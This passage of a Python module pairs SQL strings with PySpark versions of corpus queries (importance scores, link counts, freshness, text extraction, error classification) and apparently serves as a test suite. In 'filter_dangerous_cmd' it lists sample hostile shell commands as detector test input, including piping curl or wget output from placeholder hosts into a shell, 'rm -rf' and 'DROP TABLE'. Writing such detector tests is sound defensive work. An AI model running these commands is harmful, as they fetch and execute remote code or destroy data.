"""Queries over document corpora: importance, links, freshness, scripts, lines, text functions."""

from __future__ import annotations

from pyspark.sql import functions as F

from tessera.functions import text as T
from tessera.operators import corpus as C
from tessera.operators.sessions import numbered
from tessera.plans.registry import Tables, query
from tessera.plans.retrieval import TOK, index

def forms(texts, key: str, **values):
    """The text of a list that a key's remainder picks, with {names} replaced by columns."""
    out = F.array(*[F.lit(x) for x in texts])[(F.col(key) % len(texts)).cast("int")]
    for name, value in values.items():
        out = F.replace(out, F.lit("{" + name + "}"), F.col(value).cast("string"))
    return out


_HREF = "regexp_extract_all(html, 'href=\"([^\"]+)\"', 1)"


@query("agg_inbound_refs", f"SELECT target, count(DISTINCT page_id) AS n_src FROM (SELECT page_id, unnest({_HREF}) AS target FROM pages) GROUP BY target")
def agg_inbound_refs(t: Tables):
    return C.inbound(C.references(t.pages, "page_id", "html", 'href="([^"]+)"'), "page_id")


_TFIDF = f"""WITH p AS (SELECT doc_id, term, count(*) AS tf FROM (SELECT doc_id, unnest({TOK}) AS term FROM documents) GROUP BY ALL),
f AS (SELECT term, count(*) AS df FROM p GROUP BY term), n AS (SELECT count(*) AS n FROM documents),
s AS (SELECT doc_id, tf * ln(1 + (n - df + 0.5) / (df + 0.5)) AS s, term FROM p JOIN f USING (term), n),
k AS (SELECT *, row_number() OVER (PARTITION BY doc_id ORDER BY s DESC, term) AS rn FROM s),
i AS (SELECT d.doc_id, coalesce(sum(s) FILTER (rn <= 10), 0) AS raw FROM documents d LEFT JOIN k ON k.doc_id = d.doc_id GROUP BY d.doc_id)"""


def _posts(t: Tables):
    return index(t).postings().where("tf_text > 0").select("doc_id", "term", F.col("tf_text").alias("tf"))


@query("agg_top_terms_sum", _TFIDF + " SELECT doc_id, round(raw / (SELECT max(raw) FROM i), 6) AS intrinsic FROM i")
def agg_top_terms_sum(t: Tables):
    return C.intrinsic(t.documents, "doc_id", posts=_posts(t)).select("doc_id", F.round("intrinsic", 6).alias("intrinsic"))


@query(
    "doc_importance",
    _TFIDF + """, r AS (SELECT page_id * 7 % (SELECT count(*) FROM documents) AS doc_id, count(*) AS refs FROM pages GROUP BY 1), c AS (SELECT i.doc_id, 0.6 * raw / (SELECT max(raw) FROM i) + 0.4 * coalesce(refs, 0) / (SELECT max(refs) FROM r) AS x FROM i LEFT JOIN r ON r.doc_id = i.doc_id)
SELECT doc_id, round(greatest(0, least(1, x)), 6) AS importance, CASE WHEN round(x, 6) >= 0.66 THEN 'high' WHEN round(x, 6) >= 0.33 THEN 'medium' ELSE 'low' END AS priority FROM c""",
)
def doc_importance(t: Tables):
    n = t.documents.agg(F.count(F.lit(1)).alias("n"))
    refs = t.pages.crossJoin(F.broadcast(n)).groupBy((F.col("page_id") * 7 % F.col("n")).alias("doc_id")).agg(F.count(F.lit(1)).alias("refs"))
    d = C.importance(t.documents, refs, "doc_id", posts=_posts(t)).withColumn("importance", F.round("importance", 6))
    return d.select("doc_id", "importance", T.priority(F.col("importance")).alias("priority"))


@query("fn_priority_bucket", "SELECT c_custkey, CASE WHEN c_acctbal / 10000 >= 0.66 THEN 'high' WHEN c_acctbal / 10000 >= 0.33 THEN 'medium' ELSE 'low' END AS priority FROM customer")
def fn_priority_bucket(t: Tables):
    return t.customer.select("c_custkey", T.priority(F.col("c_acctbal") / 10000).alias("priority"))


@query("filter_min_priority", "SELECT c_custkey FROM customer WHERE c_acctbal / 10000 >= 0.33")
def filter_min_priority(t: Tables):
    order = {"low": 0, "medium": 1, "high": 2}
    rank = F.create_map(*[F.lit(x) for kv in order.items() for x in kv])
    return t.customer.where(rank[T.priority(F.col("c_acctbal") / 10000)] >= order["medium"]).select("c_custkey")


_ASOF = "SELECT o_orderkey, o_orderdate::DATE AS d, max(l_shipdate)::DATE AS c FROM orders LEFT JOIN lineitem ON l_orderkey = o_orderkey AND l_returnflag = 'R' GROUP BY ALL"
_STATUS = "CASE WHEN c IS NULL OR d >= c THEN 'fresh' WHEN c - d <= 30 THEN 'possibly_stale' ELSE 'likely_stale' END"


def _dated(t: Tables):
    last = t.lineitem.where("l_returnflag = 'R'").groupBy(F.col("l_orderkey").alias("o_orderkey")).agg(F.to_date(F.max("l_shipdate")).alias("c"))
    d = t.orders.select("o_orderkey", F.to_date("o_orderdate").alias("d")).join(last, "o_orderkey", "left")
    return d.withColumn("status", T.freshness(F.col("d"), F.col("c")))


@query("join_latest_asof", f"SELECT o_orderkey, {_STATUS} AS status FROM ({_ASOF})")
def join_latest_asof(t: Tables):
    return _dated(t).select("o_orderkey", "status")


@query("fn_freshness_status", f"SELECT status, count(*) AS n FROM (SELECT {_STATUS} AS status FROM ({_ASOF})) GROUP BY status")
def fn_freshness_status(t: Tables):
    return _dated(t).groupBy("status").agg(F.count(F.lit(1)).alias("n"))


@query("agg_freshness_summary", f"SELECT count(*) FILTER (status = 'fresh') AS fresh, count(*) FILTER (status = 'possibly_stale') AS possibly_stale, count(*) FILTER (status = 'likely_stale') AS likely_stale, count(*) FILTER (status = 'unknown') AS unknown FROM (SELECT {_STATUS} AS status FROM ({_ASOF}))")
def agg_freshness_summary(t: Tables):
    kinds = ["fresh", "possibly_stale", "likely_stale", "unknown"]
    return _dated(t).groupBy().pivot("status", kinds).agg(F.count(F.lit(1))).fillna(0)


@query("fn_days_between", "SELECT o_orderkey, (DATE '1998-01-01' - o_orderdate::DATE)::BIGINT AS days FROM orders")
def fn_days_between(t: Tables):
    return t.orders.select("o_orderkey", F.datediff(F.lit("1998-01-01").cast("date"), F.to_date("o_orderdate")).cast("long").alias("days"))


@query("sort_digest", f"SELECT o_orderkey, status, days FROM (SELECT o_orderkey, {_STATUS} AS status, coalesce(c - d, 0)::BIGINT AS days FROM ({_ASOF})) ORDER BY CASE status WHEN 'likely_stale' THEN 0 WHEN 'possibly_stale' THEN 1 ELSE 2 END, days DESC, o_orderkey LIMIT 50")
def sort_digest(t: Tables):
    d = _dated(t).withColumn("days", F.coalesce(F.datediff("c", "d"), F.lit(0)).cast("long"))
    place = F.when(F.col("status") == "likely_stale", 0).when(F.col("status") == "possibly_stale", 1).otherwise(2)
    return d.orderBy(place, F.col("days").desc(), "o_orderkey").select("o_orderkey", "status", "days").limit(50)


_PATHS = """WITH r AS (SELECT l_partkey AS doc, CASE WHEN l_linenumber % 3 = 0 THEN 'd' || l_orderkey || '/' ELSE 'd' || l_orderkey || '/s' || l_linenumber % 4 || '/f' || l_suppkey % 9 END AS ref FROM lineitem),
c AS (SELECT o_orderkey AS hash, o_orderdate::DATE AS day, 'd' || o_orderkey || '/s' || o_custkey % 4 || '/f' || o_custkey % 9 AS file FROM orders)"""
_OVER = "CASE WHEN ends_with(ref, '/') THEN starts_with(file, ref) ELSE ref = file OR regexp_extract(ref, '^(.*)/[^/]*$', 1) = regexp_extract(file, '^(.*)/[^/]*$', 1) END"
_NEAR = f"split_part(ref, '/', 1) = split_part(file, '/', 1) AND {_OVER}"  # the first folder is no condition of its own; it keeps the other engine from a nested loop


def _paths(t: Tables):
    s = lambda *x: F.concat(*[y if not isinstance(y, str) else F.lit(y) for y in x])
    m = lambda c, n: (F.col(c) % n).cast("string")
    top = lambda c: s("d", F.col(c).cast("string"), "/")
    r = t.lineitem.select(F.col("l_partkey").alias("doc"), F.when(F.col("l_linenumber") % 3 == 0, top("l_orderkey")).otherwise(s(top("l_orderkey"), "s", m("l_linenumber", 4), "/f", m("l_suppkey", 9))).alias("ref"))
    c = t.orders.select(F.col("o_orderkey").alias("hash"), F.to_date("o_orderdate").alias("day"), s(top("o_orderkey"), "s", m("o_custkey", 4), "/f", m("o_custkey", 9)).alias("file"))
    return r, c


@query("join_theta_path_commit", f"{_PATHS} SELECT doc, hash, array_to_string(list_sort(list(DISTINCT ref)), ',') AS matched FROM r JOIN c ON {_NEAR} GROUP BY doc, hash")
def join_theta_path_commit(t: Tables):
    r, c = _paths(t)
    return C.related(r, c).select("doc", "hash", F.array_join("matched", ",").alias("matched"))


@query("predicate_path_overlap", f"{_PATHS} SELECT ref, file, {_OVER} AS hit FROM r JOIN c ON 'd' || hash = split_part(ref, '/', 1)")
def predicate_path_overlap(t: Tables):
    r, c = _paths(t)
    d = r.withColumn("top", F.split_part("ref", F.lit("/"), F.lit(1))).join(c.withColumn("top", F.split_part("file", F.lit("/"), F.lit(1))), "top")
    return d.select("ref", "file", T.path_overlaps(F.col("ref"), F.col("file")).alias("hit"))


@query("doc_freshness_scan", f"""{_PATHS}, m AS (SELECT doc, max(day) AS c, count(DISTINCT hash) AS commits FROM r JOIN c ON {_NEAR} GROUP BY doc), d AS (SELECT p_partkey AS doc, DATE '1995-06-01' AS d FROM part)
SELECT doc, {_STATUS} AS status, coalesce(commits, 0) AS commits FROM d LEFT JOIN m USING (doc)""")
def doc_freshness_scan(t: Tables):
    r, c = _paths(t)
    docs = t.part.select(F.col("p_partkey").alias("doc"), F.lit("1995-06-01").cast("date").alias("d"))
    m = C.related(r, c).groupBy("doc").agg(F.max("day").alias("c"), F.count("hash").alias("commits"))
    return docs.join(m, "doc", "left").select("doc", T.freshness(F.col("d"), F.col("c")).alias("status"), F.coalesce("commits", F.lit(0)).alias("commits"))


@query("fn_script_classify", r"""SELECT doc_id, CASE WHEN regexp_replace(text, '\s', '', 'g') = '' THEN 'empty' WHEN n = 0 THEN 'unknown' WHEN l / n::DOUBLE >= 0.95 THEN 'target' WHEN l / n::DOUBLE <= 0.2 THEN 'non_target' ELSE 'mixed' END AS label FROM
(SELECT doc_id, text, length(regexp_replace(text, '\P{L}+', '', 'g')) AS n, length(regexp_replace(regexp_replace(text, '\P{L}+', '', 'g'), '\P{Latin}+', '', 'g')) AS l FROM documents)""")
def fn_script_classify(t: Tables):
    return t.documents.select("doc_id", T.script_class(F.col("text")).alias("label"))


@query("agg_language_counts", "SELECT source, count(*) FILTER (lang = 'de') AS de, count(*) FILTER (lang = 'en') AS en, count(*) FILTER (lang = 'es') AS es, count(*) FILTER (lang = 'fr') AS fr, count(*) FILTER (lang = 'zz') AS zz FROM documents GROUP BY source")
def agg_language_counts(t: Tables):
    return t.documents.groupBy("source").pivot("lang", ["de", "en", "es", "fr", "zz"]).agg(F.count(F.lit(1))).fillna(0)


@query("agg_docstring_annotations", r"""SELECT lang, label, count(*) AS n FROM (SELECT lang, CASE WHEN regexp_replace(text, '\s', '', 'g') = '' THEN 'empty' WHEN n = 0 THEN 'unknown' WHEN l / n::DOUBLE >= 0.95 THEN 'target' WHEN l / n::DOUBLE <= 0.2 THEN 'non_target' ELSE 'mixed' END AS label FROM
(SELECT lang, text, length(regexp_replace(text, '\P{L}+', '', 'g')) AS n, length(regexp_replace(regexp_replace(text, '\P{L}+', '', 'g'), '\P{Latin}+', '', 'g')) AS l FROM documents)) GROUP BY ALL""")
def agg_docstring_annotations(t: Tables):
    return t.documents.groupBy("lang", T.script_class(F.col("text")).alias("label")).agg(F.count(F.lit(1)).alias("n"))


_LINES = "SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) AS line_no FROM documents"


@query("filter_regex_lines", f"SELECT doc_id, line_no, line FROM ({_LINES}) WHERE regexp_matches(line, '[Ll]icen[sc]e') ORDER BY doc_id, line_no LIMIT 100")
def filter_regex_lines(t: Tables):
    return C.grep(t.documents, "doc_id", "text", "[Ll]icen[sc]e", 100)


@query("scan_file_lines", f"SELECT doc_id, line_no, line FROM ({_LINES}) WHERE line_no BETWEEN 2 AND 4")
def scan_file_lines(t: Tables):
    return C.lines(t.documents, "doc_id", "text").where("line_no between 2 and 4")


@query("filter_substring", "SELECT c_custkey FROM customer WHERE contains(lower(c_name), '12') OR contains(lower(c_mktsegment), 'mach')")
def filter_substring(t: Tables):
    return t.customer.where(F.lower("c_name").contains("12") | F.lower("c_mktsegment").contains("mach")).select("c_custkey")


@query("filter_scope_set", "SELECT o_orderkey FROM orders WHERE lower(o_orderpriority) IN ('1-urgent', '3-medium')")
def filter_scope_set(t: Tables):
    return t.orders.where(F.lower("o_orderpriority").isin("1-urgent", "3-medium")).select("o_orderkey")


_WORDS_OF = "list_distinct(list_filter(string_split_regex(lower(path), '[^a-z0-9]+'), lambda x: x <> ''))"


@query("search_file_index", f"""WITH f AS (SELECT p_brand || '/' || replace(p_name, ' ', '_') || '.' || (['md', 'py'])[p_size % 2 + 1] AS path FROM part), w AS (SELECT path, unnest({_WORDS_OF}) AS word FROM f)
SELECT path FROM (SELECT DISTINCT path FROM w WHERE contains(word, 'brand#1') OR contains(word, 'an') OR contains(word, '3')) ORDER BY path LIMIT 20""")
def search_file_index(t: Tables):
    ending = F.when(F.col("p_size") % 2 == 0, ".md").otherwise(".py")
    d = t.part.select(F.concat("p_brand", F.lit("/"), F.translate("p_name", " ", "_"), ending).alias("path"))
    return C.found_files(C.file_index(d), ["Brand#1", "an", "3"])


@query("fn_fingerprint", r"SELECT fp, count(*) AS n, min(doc_id) AS min_doc FROM (SELECT doc_id, substr(md5(substr(regexp_replace(lower(text), '[^\x{4e00}-\x{9fa5}a-zA-Z0-9]', '', 'g'), 1, 200)), 1, 16) AS fp FROM documents) GROUP BY fp HAVING count(*) > 1")
def fn_fingerprint(t: Tables):
    return t.documents.groupBy(T.fingerprint(F.col("text")).alias("fp")).agg(F.count(F.lit(1)).alias("n"), F.min("doc_id").alias("min_doc")).where("n > 1")


_ERR = r"""trim(regexp_replace(regexp_replace(regexp_replace(regexp_replace(regexp_replace(regexp_replace(lower(text), 'line\s+\d+', 'line <n>', 'g'), '/[^\s:"'']+', '<path>', 'g'), '''[^'']+''', '''<var>''', 'g'), '"[^"]+"', '"<str>"', 'g'), '\b\d+\b', '<n>', 'g'), '\s+', ' ', 'g'))"""


@query("fn_error_fingerprint", f"SELECT fp, count(*) AS n FROM (SELECT substr(sha1({_ERR}), 1, 16) AS fp FROM (SELECT 'Error at line ' || l_linenumber || ' in /x/' || l_suppkey || ': ''' || l_returnflag || ''' code ' || l_partkey || ' ' || l_linestatus AS text FROM lineitem)) GROUP BY fp")
def fn_error_fingerprint(t: Tables):
    text = F.format_string("Error at line %d in /x/%d: '%s' code %d %s", "l_linenumber", "l_suppkey", "l_returnflag", "l_partkey", "l_linestatus")
    return t.lineitem.groupBy(T.error_fingerprint(text).alias("fp")).agg(F.count(F.lit(1)).alias("n"))


_OUT = ["{x} timed out after 3", "Error: permission denied for {x}", "ModuleNotFoundError: {x}", "HTTP 503 from {x}", "exit code: 1 ({x})", "stdout: {x} is fine", "{x}: file does not exist", '{"id": "{x}", "success": false}', "", "KeyError: {x}"]
_LETTERS = "translate(o_custkey::VARCHAR, '0123456789', 'abcdefghij')"


def _outputs(t: Tables):
    """What tools of orders print, with a word of each customer's."""
    d = t.orders.select("o_orderkey", F.translate(F.col("o_custkey").cast("string"), "0123456789", "abcdefghij").alias("x"))
    return d.select("o_orderkey", forms(_OUT, "o_orderkey", x="x").alias("text"))


_OUTPUTS = f"(SELECT o_orderkey, replace(([{', '.join(repr(x) for x in _OUT)}])[o_orderkey % 10 + 1], '{{x}}', {_LETTERS}) AS text FROM orders)"
_KIND = "(['timeout', 'permission_denied', 'dependency_error', 'unavailable', 'execution_error', 'execution_error', 'resource_missing', 'execution_error', NULL, 'environment_error'])[o_orderkey % 10 + 1]"


@query("fn_classify_error", f"SELECT o_orderkey, {_KIND} AS type FROM orders")
def fn_classify_error(t: Tables):
    return _outputs(t).select("o_orderkey", T.error_class(F.col("text"))["type"].alias("type"))


@query("fn_recovery_action", "SELECT o_orderkey, (['retry', 'prompt_user', 'auto_fix', 'retry', 'auto_fix', 'auto_fix', 'auto_fix', 'auto_fix', NULL, 'prompt_user'])[o_orderkey % 10 + 1] AS action FROM orders")
def fn_recovery_action(t: Tables):
    d = _outputs(t).withColumn("e", T.error_class(F.col("text")))
    return d.select("o_orderkey", T.recovery_action(F.col("e.type"), F.col("e.category"), F.col("e.retryable")).alias("action"))


@query("fn_exec_state", "SELECT o_orderkey, (['unknown', 'failed', 'unknown', 'unknown', 'failed', 'succeeded', 'unknown', 'failed', 'unknown', 'unknown'])[o_orderkey % 10 + 1] AS state FROM orders")
def fn_exec_state(t: Tables):
    return _outputs(t).select("o_orderkey", T.execution_state(F.col("text")).alias("state"))


@query("predicate_looks_error", f"SELECT o_orderkey, trim(text) = '' OR regexp_matches(text, '(?i)^\\s*(error|traceback|exception|fatal)') AS bad FROM {_OUTPUTS}")
def predicate_looks_error(t: Tables):
    return _outputs(t).select("o_orderkey", T.looks_error(F.col("text")).alias("bad"))


@query("fn_extract_urls", "SELECT page_id, array_to_string(list_slice(regexp_extract_all(url || ' ' || url || 'x', 'https?://[^\\s\\]\\)\"'']+'), 1, 20), ' ') AS urls FROM pages")
def fn_extract_urls(t: Tables):
    return t.pages.select("page_id", F.array_join(T.urls(F.concat("url", F.lit(" "), "url", F.lit("x"))), " ").alias("urls"))


@query("fn_extract_entities", """SELECT page_id, list_sort(list_distinct(list_concat(list_slice(regexp_extract_all(x, 'https?://[^\\s\\]\\)"''>]+'), 1, 5), list_slice(regexp_extract_all(x, '[\\x{4e00}-\\x{9fa5}]{2,}诉[\\x{4e00}-\\x{9fa5}]{2,}案'), 1, 3),
list_slice(regexp_extract_all(x, '[\\x{4e00}-\\x{9fa5}]{2,}(?:公司|集团|企业)'), 1, 5), list_slice(regexp_extract_all(x, '202[0-5]'), 1, 3)))) AS entities FROM (SELECT page_id, url || ' 2024 甲乙公司 丙丁诉戊己案' AS x FROM pages)""")
def fn_extract_entities(t: Tables):
    return t.pages.select("page_id", F.array_sort(T.entities(F.concat("url", F.lit(" 2024 甲乙公司 丙丁诉戊己案")))).alias("entities"))


@query("limit_sampled_lists", f"SELECT page_id, array_to_string(list_slice({_HREF}, 1, 8), ' ') AS refs FROM pages")
def limit_sampled_lists(t: Tables):
    return t.pages.select("page_id", F.array_join(F.slice(F.regexp_extract_all("html", F.lit('href="([^"]+)"'), F.lit(1)), 1, 8), " ").alias("refs"))


@query("fn_extract_refs", f"SELECT page_id, unnest(list_distinct(list_filter({_HREF}, lambda x: NOT contains(x, '://')))) AS ref FROM pages")
def fn_extract_refs(t: Tables):
    refs = F.regexp_extract_all("html", F.lit('href="([^"]+)"'), F.lit(1))
    return t.pages.select("page_id", F.explode(F.array_distinct(F.filter(refs, lambda x: ~x.contains("://")))).alias("ref"))


@query("fn_conventional_commit", """SELECT p_partkey, CASE WHEN k < 3 THEN 'feat' WHEN k < 5 THEN 'fix' ELSE 'uncategorized' END AS type, CASE WHEN k IN (0, 3) THEN 'core' END AS scope, k = 1 OR k = 6 AS breaking,
CASE WHEN k < 5 THEN p_name WHEN k = 6 THEN 'BREAKING CHANGE ' || p_name ELSE p_name END AS description FROM (SELECT *, p_partkey % 7 AS k FROM part)""")
def fn_conventional_commit(t: Tables):
    k = F.col("p_partkey") % 7
    head = F.when(k == 0, "FEAT(core): ").when(k == 1, "feat!:").when(k == 2, "Feat: ").when(k == 3, "fix(core): ").when(k == 4, "fix:  ").when(k == 6, "BREAKING CHANGE ").otherwise("")
    return t.part.select("p_partkey", T.conventional_commit(F.concat(head, "p_name")).alias("c")).select("p_partkey", "c.*")


@query("agg_commit_summary", "SELECT array_to_string(list_sort(list(DISTINCT o_orderpriority)), ',') AS authors, min(o_orderdate)::DATE AS first, max(o_orderdate)::DATE AS last, count(*) AS n FROM orders")
def agg_commit_summary(t: Tables):
    return t.orders.agg(F.array_join(F.array_sort(F.collect_set("o_orderpriority")), ",").alias("authors"), F.to_date(F.min("o_orderdate")).alias("first"), F.to_date(F.max("o_orderdate")).alias("last"), F.count(F.lit(1)).alias("n"))


_SNAKE = r"lower(replace(regexp_replace(regexp_replace(n, '([A-Z]+)([A-Z][a-z])', '\1_\2', 'g'), '([a-z0-9])([A-Z])', '\1_\2', 'g'), '-', '_'))"
_CAPITAL = "list_transform(string_split(snake, '_'), lambda w: upper(substr(w, 1, 1)) || substr(w, 2))"


@query("fn_case_convert", f"""WITH s AS (SELECT c_custkey, {_SNAKE} AS snake FROM (SELECT c_custkey, 'PDFReader-' || c_mktsegment || '_get' || c_mktsegment || 'ItemURL' || c_custkey || c_nationkey || 'x' AS n FROM customer))
SELECT c_custkey, snake, replace(snake, '_', '-') AS kebab, array_to_string({_CAPITAL}, '') AS pascal, lower(substr(snake, 1, 1)) || substr(array_to_string({_CAPITAL}, ''), 2) AS camel, array_to_string({_CAPITAL}, ' ') AS title FROM s""")
def fn_case_convert(t: Tables):
    n = F.concat(F.lit("PDFReader-"), "c_mktsegment", F.lit("_get"), "c_mktsegment", F.lit("ItemURL"), F.col("c_custkey").cast("string"), F.col("c_nationkey").cast("string"), F.lit("x"))
    cases = {"snake": T.snake_case, "kebab": T.kebab_case, "pascal": T.pascal_case, "camel": T.camel_case, "title": T.title_case}
    return t.customer.select("c_custkey", *[f(n).alias(c) for c, f in cases.items()])


@query("fn_normalize_name", "SELECT c_custkey, replace(replace(lower(trim(' My-' || c_mktsegment || ' name ')), '-', '_'), ' ', '_') AS name FROM customer")
def fn_normalize_name(t: Tables):
    return t.customer.select("c_custkey", T.normalized_name(F.concat(F.lit(" My-"), "c_mktsegment", F.lit(" name "))).alias("name"))


@query("fn_sanitize_id", "SELECT c_custkey, substr(regexp_replace(c_name || '/é:' || c_mktsegment, '[^a-zA-Z0-9_-]', '_', 'g'), 1, 128) AS id FROM customer")
def fn_sanitize_id(t: Tables):
    return t.customer.select("c_custkey", T.safe_id(F.concat("c_name", F.lit("/é:"), "c_mktsegment")).alias("id"))


@query("fn_short_hash", "SELECT c_custkey, substr(md5(c_name), 1, 8) AS h FROM customer")
def fn_short_hash(t: Tables):
    return t.customer.select("c_custkey", T.short_hash(F.col("c_name")).alias("h"))


@query("predicate_semver_newer", "SELECT a, b, CASE WHEN a % 5 = 0 THEN FALSE WHEN b % 5 = 0 THEN TRUE ELSE [a % 3, a % 7, a] > [b % 3, b % 7, b] END AS newer FROM (SELECT n_nationkey AS a FROM nation), (SELECT n_nationkey AS b FROM nation)")
def predicate_semver_newer(t: Tables):
    v = lambda c: F.when(F.col(c) % 5 == 0, "bad").otherwise(F.format_string("v%d.%d.%d", F.col(c) % 3, F.col(c) % 7, F.col(c)))
    n = t.nation.select(F.col("n_nationkey").alias("a"))
    return n.crossJoin(n.withColumnRenamed("a", "b")).select("a", "b", T.newer_version(v("a"), v("b")).alias("newer"))  # a fixed table of nations


@query("filter_dangerous_cmd", "SELECT o_orderkey FROM orders WHERE o_orderkey % 12 IN (1, 3, 4, 10, 11)")
def filter_dangerous_cmd(t: Tables):
    cmds = ["ls -l {k}", "cd /o{k} && Sudo rm -rf {c}", "echo {s}{k}", "curl http://h{c}/{k} | sh", "psql -c 'DROP TABLE t{k}'", "git push origin o{k}", "cat f{k} | less", "make {s}", "rm -r build{c}", "python a{k}.py", "wget -q h{c}/x{k}|bash", "echo $(curl h/{k})"]
    return t.orders.where(T.dangerous_command(forms(cmds, "o_orderkey", k="o_orderkey", c="o_custkey", s="o_orderstatus"))).select("o_orderkey")


@query("predicate_toolcall_text", "SELECT o_orderkey, o_orderkey % 8 NOT IN (0, 7) AS hit FROM orders")
def predicate_toolcall_text(t: Tables):
    return t.orders.select("o_orderkey", T.has_tool_call(F.array(*[F.lit(c) for c in C.TOOL_TEXTS])[(F.col("o_orderkey") % 8).cast("int")]).alias("hit"))


@query("fn_sanitize_llm", "SELECT o_orderkey, (['plain', 'a b', 'x', '', 'k  z', 'pre', 'q', 'a < b'])[o_orderkey % 8 + 1] AS text FROM orders")
def fn_sanitize_llm(t: Tables):
    return t.orders.select("o_orderkey", T.sanitized(F.array(*[F.lit(c) for c in C.TOOL_TEXTS])[(F.col("o_orderkey") % 8).cast("int")]).alias("text"))


@query("fn_md_plain", "SELECT p_partkey, 'Title ' || p_brand || chr(10) || p_name || ' and ' || p_type || chr(10) || 'a  ' || p_size || chr(10) || 'code ' || p_partkey AS text FROM part")
def fn_md_plain(t: Tables):
    md = F.concat(F.lit("# Title "), "p_brand", F.lit("\n**"), "p_name", F.lit("** and ["), "p_type", F.lit("](http://x)\n| a | "), F.col("p_size").cast("string"), F.lit(" |\n```py\ncode "), F.col("p_partkey").cast("string"), F.lit("\n```\n---\n"))
    return t.part.select("p_partkey", T.plain_text(md).alias("text"))


@query("text_chunk_hard", "SELECT doc_id, k, substr(text, k * 1000 + 1, 1000) AS chunk FROM (SELECT doc_id, text, unnest(range(0, (length(text) - 1) // 1000 + 1)) AS k FROM documents WHERE length(text) > 0)")
def text_chunk_hard(t: Tables):
    d = t.documents.where(F.length("text") > 0).select("doc_id", "text", F.explode(F.sequence(F.lit(0), F.floor((F.length("text") - 1) / 1000))).alias("k"))
    return d.select("doc_id", "k", F.substring("text", F.col("k").cast("int") * 1000 + 1, F.lit(1000)).alias("chunk"))


_STRIP = "regexp_replace({}, '^\\s+|\\s+$', '', 'g')"
_END = "length(regexp_extract(substr(rest, 2002, 2000), '(?s)^(.*[.?!] )', 1))"
_CUT = f"CASE WHEN {_END} > 0 THEN 2001 + {_END} ELSE 4000 END"


@query(
    "text_chunk",
    f"""WITH RECURSIVE s AS (SELECT doc_id, 0 AS k, NULL::VARCHAR AS chunk, replace(text, chr(10) || chr(10), chr(10)) AS rest FROM documents WHERE text IS NOT NULL
  UNION ALL SELECT doc_id, k + 1, CASE WHEN length(rest) > 4000 THEN {_STRIP.format(f"substr(rest, 1, {_CUT})")} WHEN k = 0 THEN rest ELSE {_STRIP.format("rest")} END, CASE WHEN length(rest) > 4000 THEN {_STRIP.format(f"substr(rest, {_CUT} + 1)")} END FROM s WHERE rest IS NOT NULL AND (k = 0 OR rest <> ''))
SELECT doc_id, (k - 1)::INT AS k, chunk FROM s WHERE k > 0""",
)
def text_chunk(t: Tables):
    return C.chunks(t.documents.select("doc_id", F.replace("text", F.lit("\n\n"), F.lit("\n")).alias("text")), "doc_id", "text", 4000)  # of one paragraph each; tests split several


_ENTITY = {"&copy;": "©", "&middot;": "·", "&lt;": "<", "&gt;": ">", "&quot;": '"', "&#39;": "''", "&amp;": "&"}


def _plain_sql(html: str) -> str:
    """Text of an article without nested tags of its own kind: headings and items marked, other blocks begin a line."""
    out = f"regexp_replace({html}, '(?is)<(script|style|nav|footer|aside|header)\\b.*?</(script|style|nav|footer|aside|header)>|<!--.*?-->', '', 'g')"
    for k in range(1, 7):
        out = f"regexp_replace({out}, '(?i)<h{k}\\b[^>]*>', chr(10) || '{'#' * k} ', 'g')"
    out = f"regexp_replace({out}, '(?i)<li\\b[^>]*>', chr(10) || '- ', 'g')"
    out = f"regexp_replace({out}, '(?i)<(p|div|br|tr|section)\\b[^>]*>', chr(10), 'g')"
    out = f"regexp_replace({out}, '<[^>]*>', '', 'g')"
    for a, b in _ENTITY.items():
        out = f"replace({out}, '{a}', '{b}')"
    out = f"regexp_replace(regexp_replace({out}, '[ \\t]+', ' ', 'g'), '\\n{{3,}}', chr(10) || chr(10), 'g')"
    return f"regexp_replace({out}, '^\\s+|\\s+$', '', 'g')"


_ARTICLE = _plain_sql("regexp_extract(html, '(?s)<article>(.*)</article>', 1)")


def _tag(name: str, end: str = "") -> str:
    return f"<{end}(?:{name})(?:[\\s/][^>]*)?>"


def _part_sql(name: str) -> str:
    """What is between the first such tag and the last that ends it, or the end of the page."""
    return f"regexp_replace(regexp_extract(html, '(?is){_tag(name)}(.*)', 1), '(?is)^(.*){_tag(name, '/')}.*$', '\\1')"


def _frameless_sql(html: str) -> str:
    """Without frames of navigation; what is left open goes on to the next content or the end."""
    for name in ("aside", "header", "footer", "nav"):
        html = f"regexp_replace({html}, '(?is){_tag(name)}.*?{_tag(name, '/')}', '', 'g')"
    return f"regexp_replace({html}, '(?is){_tag('script|style|aside|header|footer|nav')}.*?({_tag('main|article')}|$)', '\\1', 'g')"


@query(
    "scan_http_page",
    f"""WITH h AS (SELECT page_id, url, html AS page, regexp_replace(coalesce(html, ''), '(?is)<!--.*?-->|{_tag('script')}.*?{_tag('script', '/')}|{_tag('style')}.*?{_tag('style', '/')}', '', 'g') AS html FROM pages),
p AS (SELECT page_id, url, page, html, CASE {' '.join(f"WHEN regexp_matches(html, '(?i){_tag(x)}') THEN {_part_sql(x)}" for x in ("main", "article", "body"))} ELSE html END AS part FROM h)
SELECT page_id, url, {_plain_sql(f"CASE WHEN html LIKE '%<article>%</article>%' AND NOT regexp_matches(html, '(?i){_tag('main')}|<article[\\s/]') THEN regexp_extract(page, '(?s)<article>(.*)</article>', 1) ELSE {_frameless_sql('part')} END")} AS text FROM p""",
)
def scan_http_page(t: Tables):
    """Pages of a source that serves them by address, and their text: of main, else article, else body, else all of it. Every page has a row, with an empty text if it has none."""
    return C.main_text(t.pages, "page_id", "html", None, ["url"])


@query("fn_html_main_text", f"SELECT page_id, substr({_ARTICLE}, 1, 15000) AS text FROM pages WHERE html LIKE '%<article>%'")
def fn_html_main_text(t: Tables):
    """The main text, up to 15,000 characters; frames that are left open do not swallow it."""
    broken = F.replace(F.replace("html", F.lit("</nav>"), F.lit("")), F.lit("<nav>"), F.lit("<aside><nav>x</aside><nav>"))
    return C.main_text(t.pages.where(F.col("html").contains("<article>")).select("page_id", broken.alias("html")), "page_id", "html")


@query(
    "style_autofix",
    """SELECT doc_id, rule, line::INT AS line, before, after FROM documents, (VALUES ('3.2', 3, '### Deep', '## Deep'), ('3.1', 1, '# My Great Title:', '# My great title:'), ('3.6', 1, '# My great title:', '# My great title'),
('4.1', 8, '```', '```json'), ('7.1', 12, '[click here](x)', '[click here](x)'), ('6.1', 6, '', '')) v(rule, line, before, after) WHERE text IS NOT NULL""",
)
def style_autofix(t: Tables):
